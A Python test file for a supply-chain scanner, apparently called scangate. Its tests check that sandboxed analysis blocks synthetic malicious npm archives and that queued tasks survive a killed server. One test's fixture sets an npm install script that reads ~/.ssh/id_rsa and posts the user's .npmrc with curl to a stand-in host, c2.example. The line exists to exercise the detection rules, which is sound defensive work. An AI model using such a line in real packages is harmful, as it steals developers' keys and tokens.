"""`--local` and `scangate serve` with the real sandbox, on archives made by the tests: no registry is asked."""

import base64
import contextlib
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import ExitStack
from functools import partial
from pathlib import Path

import pytest

from scangate.local.fetch import fetcher
from scangate.models.lockfile import Ecosystem
from scangate.registries import DEFAULT_URL
from tests import synthetic
from tests.cli.conftest import Scangate
from tests.cli.test_scan import tgz
from tests.cli.test_serve import free_port, started
from tests.cli.test_uploads import archive, lock
from tests.local.conftest import WAIT_SECONDS
from tests.local.fetch.registry import Registry, running

pytestmark = pytest.mark.tool("bwrap", "strace", "ip", "unshare", "setpriv", "npm")
FINE = ("fine", "1.0.0")


def test_a_project_with_a_malicious_archive_is_blocked_by_its_line(scangate: Scangate, project: Path) -> None:
    tarball = synthetic.build("https-beacon", project)
    lock(project, f"file:{tarball.name}", None, ("synthetic-https-beacon", "1.0.0"))
    line = next(
        n for n, text in enumerate((project / "package-lock.json").read_text().splitlines(), 1) if "beacon" in text
    )
    result = scangate("check", "--local", "--quiet")
    assert result.code == 1, result.out + result.err
    assert f"in package-lock.json:{line}" in result.out
    assert "net-on-install (high, deny by default)" in result.out
    assert "cdn-updates.example" in result.out
    assert "analysis by this machine (--local)" in result.out.replace("\n", " ")
    assert not list(Path(project).glob("node_modules"))


def test_a_clean_archive_passes_and_the_configured_service_is_not_asked(scangate: Scangate, project: Path) -> None:
    lock(project, "file:x.tgz", archive(project / "x.tgz", FINE), FINE)
    result = scangate("check", "--local", "--quiet", SCANGATE_API_URL="http://127.0.0.1:9", SCANGATE_API_KEY="k")
    assert result.code == 0, result.out + result.err
    assert result.err == "scangate: --local: SCANGATE_API_URL is set, and no service is asked.\n"


def test_scan_takes_an_archive(scangate: Scangate, project: Path) -> None:
    archive(project / "x.tgz", FINE)
    assert scangate("scan", "--local", "--quiet", "x.tgz").code == 0
    wheel = synthetic.build("import-code", project)
    blocked = scangate("scan", "--local", "--quiet", "--format", "json", wheel.name)
    assert blocked.code == 1
    (package,) = blocked.json["packages"]
    assert "net-on-import" in [finding["rule"] for finding in package["findings"]]


def test_what_the_local_engine_does_not_take(scangate: Scangate, project: Path) -> None:
    """It is all that was asked for, and nothing of it was analysed: never 0, whatever is excused in lockfiles."""
    (project / "scangate.yml").write_text("version: 1\noutcomes:\n  unsupported-ecosystem: note\n")
    result = scangate("scan", "--local", "--format", "json", "pkg:vscode-extension/pub/ext@1.0.0")
    (package,) = result.json["packages"]
    assert (result.code, [outcome["code"] for outcome in package["outcomes"]]) == (3, ["submit-error"])
    assert "not supported by the local engine" in result.out
    result = scangate("scan", "--local", "--engine", "lastpymile", "pkg:npm/a@1.0.0")
    assert result.code == 3
    assert "not supported by the local engine" in result.out.replace("\n", " ").replace("      ", " ")
    assert scangate("scan", "--local", "--rate", "5/s", "pkg:npm/a@1.0.0").code == 2


@pytest.fixture
def registry(monkeypatch: pytest.MonkeyPatch) -> Iterator[Registry]:
    """Instead of the public ones: only the address differs."""
    with running() as server:
        here = partial(fetcher.PackageFetcher, npm=f"{server.url}/npm", pypi=f"{server.url}/simple")
        monkeypatch.setattr(fetcher, "PackageFetcher", here)
        yield server


def test_another_archive_than_the_lockfile_promises_is_a_finding_and_not_run(
    scangate: Scangate, project: Path, registry: Registry
) -> None:
    """With the right digest the same package is run, and denied for what it does."""
    scripts = {"install": "cat ~/.ssh/id_rsa; curl --data-binary @$HOME/.npmrc http://c2.example/"}
    digest = registry.npm("app", "1.0.0", scripts=scripts)

    def checked(integrity: str) -> tuple[int, set[str], list[str]]:
        lock(project, f"{DEFAULT_URL[Ecosystem.NPM]}app/-/app-1.0.0.tgz", integrity, ("app", "1.0.0"))
        result = scangate("check", "--local", "--quiet", "--format", "json")
        (package,) = result.json["packages"]
        outcomes = [outcome["code"] for outcome in package["outcomes"]]
        return result.code, {finding["rule"] for finding in package["findings"]}, outcomes

    assert checked(f"sha512-{'A' * 86}==") == (1, {"lock-integrity-mismatch"}, ["integrity-mismatch"])
    right = "sha512-" + base64.b64encode(bytes.fromhex(digest.partition(":")[2])).decode()
    code, rules, _ = checked(right)
    assert code == 1
    assert {"net-on-install", "file-ssh-key"} <= rules


def slow(path: Path, name: str) -> None:
    """A package whose installation takes a while."""
    manifest = {"name": name, "version": "1.0.0", "scripts": {"install": "sleep 3"}}
    tgz(path, {"package/package.json": json.dumps(manifest).encode()})


def test_a_server_killed_half_way_loses_no_task(scangate: Scangate, project: Path, tmp_path: Path) -> None:
    """The sandbox goes with the server; what it was doing is done by the next one."""
    data = str(tmp_path / "data")
    slow(project / "slow.tgz", "slow")
    with started("--data", data) as (server, exported):
        submitted = scangate("scan", "slow.tgz", "--timeout", "2", "--quiet", **exported)
        assert submitted.code == 3
        assert "pending" in submitted.out
        server.send_signal(signal.SIGKILL)
        server.wait(WAIT_SECONDS)
    with started("--data", data) as (_, exported):
        latest = time.monotonic() + 3 * WAIT_SECONDS
        while True:
            (task,) = scangate("tasks", "--format", "json", **exported).json["tasks"]
            if task["status"] not in ("queued", "processing"):
                break
            assert time.monotonic() < latest
            time.sleep(0.1)
        assert task["status"] == "completed", task
        assert not list((tmp_path / "data" / "work").iterdir())


def test_a_sandbox_whose_processes_are_killed_is_no_clean_package(
    scangate: Scangate, project: Path, tmp_path: Path
) -> None:
    slow(project / "slow.tgz", "slow")
    with started("--data", str(tmp_path / "data"), "--workers", "1") as (server, exported):
        scan = subprocess.Popen(
            [sys.executable, "-m", "scangate", "scan", "slow.tgz", "--quiet"],
            cwd=project,
            stdout=subprocess.PIPE,
            text=True,
            env={**exported, "PATH": os.environ["PATH"]},
        )
        with scan:
            latest = time.monotonic() + WAIT_SECONDS
            while not (found := _tracers(server.pid)):
                assert time.monotonic() < latest
                time.sleep(0.05)
            for pid in found:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGKILL)
            out, _ = scan.communicate(timeout=2 * WAIT_SECONDS)
    assert scan.returncode == 3, out
    assert "failed" in out


def _tracers(server: int) -> list[int]:
    """The strace processes below a server."""
    parents: dict[int, int] = {}
    names: dict[int, str] = {}
    for status in Path("/proc").glob("[0-9]*/status"):
        try:
            fields = dict(line.split(":\t", 1) for line in status.read_text().splitlines() if ":\t" in line)
        except OSError:
            continue
        parents[int(fields["Pid"])], names[int(fields["Pid"])] = int(fields["PPid"]), fields["Name"]

    def below(pid: int) -> bool:
        while pid > 1:
            pid = parents.get(pid, 0)
            if pid == server:
                return True
        return False

    return [pid for pid, name in names.items() if name == "strace" and below(pid)]


PACKAGES = ("synthetic-http-exfiltration", "slow", "fine")


def local_project(project: Path) -> None:
    """Like examples/local-demo, of archives alone: one that is denied, one that takes a while, one that is fine."""
    vendor = project / "vendor"
    vendor.mkdir()
    synthetic.build("http-exfiltration", vendor).rename(vendor / f"{PACKAGES[0]}.tgz")
    slow(vendor / "slow.tgz", "slow")
    archive(vendor / "fine.tgz", FINE)
    entries = {
        f"node_modules/{name}": {
            "version": "1.0.0",
            "resolved": f"file:vendor/{name}.tgz",
            "integrity": "sha512-"
            + base64.b64encode(hashlib.sha512((vendor / f"{name}.tgz").read_bytes()).digest()).decode(),
        }
        for name in PACKAGES
    }
    root = {"name": "p", "version": "1.0.0", "dependencies": {name: f"file:vendor/{name}.tgz" for name in PACKAGES}}
    document = {"name": "p", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": root, **entries}}
    (project / "package-lock.json").write_text(json.dumps(document, indent=1))
    (project / "scangate.yml").write_text("version: 1\nupload-files: true\n")


def test_serve_in_one_terminal_and_check_in_another_and_the_server_killed_half_way(
    scangate: Scangate, project: Path, tmp_path: Path
) -> None:
    """One and the same `check` outlives the server: each task is there again, and each package analysed for real."""
    local_project(project)
    options = ("--data", str(tmp_path / "data"), "--port", str(free_port()), "--workers", "1")

    def statuses(exported: dict[str, str]) -> list[str]:
        listed = scangate("tasks", "--format", "json", **exported).json["tasks"]
        return [task["status"] for task in listed]

    with ExitStack() as stack:
        with started(*options) as (server, exported):
            check = stack.enter_context(
                subprocess.Popen(
                    [sys.executable, "-m", "scangate", "check", "--quiet", "--format", "json", "--no-cache"],
                    cwd=project,
                    stdout=subprocess.PIPE,
                    stderr=subprocess.PIPE,
                    text=True,
                    env={**exported, "PATH": os.environ["PATH"], "HOME": os.environ["HOME"]},
                )
            )
            stack.callback(check.kill)
            latest = time.monotonic() + 3 * WAIT_SECONDS
            while not {"completed", "processing"} <= set(known := statuses(exported)):
                assert time.monotonic() < latest, known
                assert check.poll() is None
            server.send_signal(signal.SIGKILL)
            server.wait(WAIT_SECONDS)
        with started(*options) as (_, again):
            assert again == exported
            out, err = check.communicate(timeout=6 * WAIT_SECONDS)
            assert statuses(exported) == ["completed"] * 3
    assert (check.returncode, err) == (1, ""), out
    packages = {package["name"]: package for package in json.loads(out)["packages"]}
    assert set(packages) == set(PACKAGES)
    for package in packages.values():
        assert [each["result"] for each in package["analyses"]] == ["analysed"]
        assert package["outcomes"] == []
    assert {finding["rule"] for finding in packages[PACKAGES[0]]["findings"]} >= {"net-on-install"}
    assert [packages[name]["status"] for name in PACKAGES] == ["blocked", "passed", "passed"]
